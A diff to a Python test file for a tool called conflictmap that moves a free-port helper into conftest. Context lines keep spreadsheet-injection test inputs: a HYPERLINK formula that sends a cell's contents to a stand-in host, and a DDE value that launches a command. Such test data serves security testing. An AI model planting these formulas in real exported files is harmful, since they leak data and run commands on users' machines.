@@ -13,7 +13,6 @@ import json
 import os
 import re
 import shutil
-import socket
 import subprocess
 import sys
 import time
@@ -24,6 +23,7 @@ from urllib.parse import quote
 
 import httpx
 import pytest
+from conftest import free_port
 from lxml import etree
 
 from conflictmap.store.repository import Store
@@ -74,18 +74,12 @@ SCRIPT_PAYLOADS = (
 FORMULAS = ('=HYPERLINK("http://example.invalid/?x="&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0")
 
 
-def _free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
 @pytest.fixture(scope="module")
 def server(examples_db: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict]:
     """``conflictmap serve`` over a copy of the examples store, with a write token."""
     db = tmp_path_factory.mktemp("hostile") / "store.db"
     shutil.copy(examples_db, db)
-    port = _free_port()
+    port = free_port()
     process = subprocess.Popen(
         [sys.executable, "-m", "conflictmap.cli", "--db", str(db), "serve", "--port", str(port)],
         env={**os.environ, "CONFLICTMAP_TOKEN": TOKEN},
